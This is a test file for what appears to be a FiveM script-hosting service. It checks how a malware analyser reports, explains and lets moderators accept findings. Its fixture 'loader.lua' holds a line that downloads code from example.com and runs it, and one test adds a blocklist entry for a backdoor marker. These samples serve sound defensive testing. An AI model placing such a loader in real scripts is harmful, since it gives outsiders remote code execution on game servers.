import { sql } from 'drizzle-orm'
import { expect, test } from 'vitest'

import { zipOf } from '#test-support/archives/zip.ts'
import { analyseAll } from '#test-support/analyses.ts'
import { scriptForm } from '#test-support/script-forms.ts'
import { startTestApp } from '#test-support/test-app.ts'

const app = await startTestApp()
const author = await app.createUser('scripts.upload')
const moderator = await app.createUser('admin.system.access', 'admin.scripts.moderate')

const loader = "PerformHttpRequest('https://example.com/code', function(_, body) load(body)() end)\n"
const manifest = "fx_version 'cerulean'\ngame 'gta5'\nserver_script 'loader.lua'\n"

/** An archive whose file runs downloaded code: the same file in each, below another name. */
async function submit(name: string) {
  const content = zipOf([
    { name: `${name}/fxmanifest.lua`, content: manifest },
    { name: `${name}/loader.lua`, content: loader },
  ])
  const archive = { fileName: `${name}.zip`, content }
  const { body } = await app.request(author, 'POST', '/api/scripts', await scriptForm({}, { archive }))
  await analyseAll(app)
  return body
}

const reportOf = async (script: { versionId: number }) =>
  (await app.request(null, 'GET', `/api/versions/${script.versionId}/report`)).body
const detailOf = async (script: { id: number }) =>
  (await app.request(null, 'GET', `/api/scripts/${script.id}`)).body

const rule = 'runs-downloaded-code'

test('a finding is shown with its rule, place and severity, in the report, the list of files and the script', async () => {
  const script = await submit('loads')

  const report = await reportOf(script)
  expect(report).toMatchObject({ severity: 'high', accepted: 0, counts: { high: 1 } })
  const finding = report.findings.find((each: { rule: string }) => each.rule === rule)
  expect(finding).toMatchObject({
    title: 'Runs code that it downloads',
    severity: 'high',
    side: 'server',
    path: 'loads/loader.lua',
    line: 1,
    verdict: null,
    comment: null,
  })
  expect(finding.fileSha256).toMatch(/^[0-9a-f]{32}$/)
  const worst = {
    rule,
    title: 'Runs code that it downloads',
    severity: 'high',
    path: 'loads/loader.lua',
    line: 1,
    basis: 'code',
    isExplained: false,
    isConfirmed: false,
  }
  expect(report.worst).toEqual(worst)
  expect(await detailOf(script)).toMatchObject({
    severity: 'high',
    analysis: { counts: { high: 1 }, high: ['Runs code that it downloads'], worst },
  })
  const { body: tree } = await app.request(null, 'GET', `/api/versions/${script.versionId}/files`)
  expect(tree.files).toMatchObject([{ severity: null }, { path: 'loads/loader.lua', severity: 'high' }])
})

test('a verdict holds in every archive with the file, those of the future included, until it is removed', async () => {
  const [first, second] = [await submit('first'), await submit('second')]
  const { findings } = await reportOf(first)
  const { fileSha256 } = findings.find((each: { rule: string }) => each.rule === rule)
  const path = `/api/finding-verdicts/${rule}/${fileSha256}`
  const change = { verdict: 'accepted', note: 'Reads the list of versions.' }
  const others = findings.length - 1

  expect((await app.request(author, 'PUT', path, change)).status).toBe(403)
  expect((await app.request(moderator, 'PUT', path, { ...change, note: ' ' })).status).toBe(400)
  const unknown = `/api/finding-verdicts/${rule}/${'0'.repeat(32)}`
  expect((await app.request(moderator, 'PUT', unknown, change)).status).toBe(404)
  expect((await app.request(moderator, 'DELETE', path)).status).toBe(404)
  expect(await reportOf(first)).toMatchObject({ severity: 'high', accepted: 0 })

  // The repeat is not logged.
  for (const _ of [1, 2]) expect((await app.request(moderator, 'PUT', path, change)).status).toBe(204)

  for (const script of [first, second, await submit('third')]) {
    const report = await reportOf(script)
    expect(report).toMatchObject({ accepted: 1, counts: { high: 0 } })
    expect(report.severity).not.toBe('high')
    expect(report.findings).toHaveLength(others + 1)
    expect(report.findings.at(-1)).toMatchObject({ rule, verdict: { ...change, at: expect.any(String) } })
    expect(await detailOf(script)).toMatchObject({ severity: report.severity, analysis: { high: [] } })
  }
  const { rows } = await app.db.execute(sql`
    select user_id, metadata from activities where action = 'Finding Accepted'`)
  expect(rows).toEqual([{ user_id: moderator.id, metadata: { rule, fileSha256 } }])
  const confirmed = { ...change, verdict: 'confirmed' }
  expect((await app.request(moderator, 'PUT', path, confirmed)).status).toBe(204)
  expect(await reportOf(first)).toMatchObject({ accepted: 0, counts: { high: 1 } })

  expect((await app.request(moderator, 'DELETE', path)).status).toBe(204)
  expect(await reportOf(second)).toMatchObject({ severity: 'high', accepted: 0, counts: { high: 1 } })
  expect(
    (await reportOf(second)).findings.every(({ verdict }: { verdict: unknown }) => verdict === null),
  ).toBe(true)
})

test('only the author comments on a finding, and an empty text removes the comment', async () => {
  const script = await submit('commented')
  const path = `/api/scripts/${script.id}/finding-comments`
  const comment = { rule, path: 'commented/loader.lua', text: 'It loads our own updater.' }
  const commentOf = async () =>
    (await reportOf(script)).findings.find((each: { rule: string }) => each.rule === rule).comment

  expect(await commentOf()).toBeNull()
  expect((await app.request(null, 'PUT', path, comment)).status).toBe(401)
  expect((await app.request(moderator, 'PUT', path, comment)).status).toBe(403)
  for (const wrong of [
    { path: 'commented/other.lua' },
    { rule: 'decoder' },
    { text: 'x'.repeat(501) },
    { rule: '../x' },
  ])
    expect((await app.request(author, 'PUT', path, { ...comment, ...wrong })).status).toBe(400)
  expect((await app.request(author, 'PUT', '/api/scripts/999999/finding-comments', comment)).status).toBe(404)
  expect(await commentOf()).toBeNull()

  expect((await app.request(author, 'PUT', path, comment)).status).toBe(204)
  expect(await commentOf()).toEqual({ text: comment.text, at: expect.any(String) })
  expect((await reportOf(script)).worst).toMatchObject({ rule, isExplained: true })
  expect((await detailOf(script)).analysis.worst).toMatchObject({ rule, isExplained: true })
  expect((await app.request(author, 'PUT', path, { ...comment, text: 'Changed.' })).status).toBe(204)
  expect(await commentOf()).toMatchObject({ text: 'Changed.' })
  expect((await app.request(author, 'PUT', path, { ...comment, text: ' ' })).status).toBe(204)
  expect(await commentOf()).toBeNull()
})

test('the worst finding is what code does before a text, and not what a moderator accepted', async () => {
  await app.db.execute(sql`
    insert into blocklist_entries (kind, value, reason) values ('text', 'cipher-panel', 'Seen on infected servers.')`)
  const content = zipOf([
    {
      name: 'w/fxmanifest.lua',
      content: "fx_version 'cerulean'\ngame 'gta5'\nserver_scripts { 'a.lua', 'b.lua' }\n",
    },
    { name: 'w/a.lua', content: "Words = { 'cipher-panel' }\n" },
    { name: 'w/b.lua', content: `-- b\n${loader}` },
  ])
  const archive = { fileName: 'w.zip', content }
  const { body: script } = await app.request(
    author,
    'POST',
    '/api/scripts',
    await scriptForm({}, { archive }),
  )
  await analyseAll(app)
  const { findings, worst } = await reportOf(script)
  const fileSha256 = findings.find((each: { rule: string }) => each.rule === rule).fileSha256
  expect(worst).toMatchObject({ rule, path: 'w/b.lua', line: 2, basis: 'code' })

  const verdict = { verdict: 'accepted', note: 'Reads the list of versions.' }
  await app.request(moderator, 'PUT', `/api/finding-verdicts/${rule}/${fileSha256}`, verdict)

  const text = { rule: 'blocklisted-text', path: 'w/a.lua', basis: 'text', isConfirmed: false }
  expect((await reportOf(script)).worst).toMatchObject(text)
  expect((await detailOf(script)).analysis).toMatchObject({ accepted: 1, worst: text })
})

test('a file that no manifest loads is named as such', async () => {
  const content = zipOf([
    { name: 'u/fxmanifest.lua', content: "fx_version 'cerulean'\ngame 'gta5'\n" },
    { name: 'u/tools/loader.lua', content: `-- u\n${loader}` },
  ])
  const archive = { fileName: 'u.zip', content }
  const { body: script } = await app.request(
    author,
    'POST',
    '/api/scripts',
    await scriptForm({}, { archive }),
  )
  await analyseAll(app)

  const worst = { rule, path: 'u/tools/loader.lua', basis: 'unloaded' }
  expect((await reportOf(script)).worst).toMatchObject(worst)
  expect((await detailOf(script)).analysis.worst).toMatchObject(worst)
})
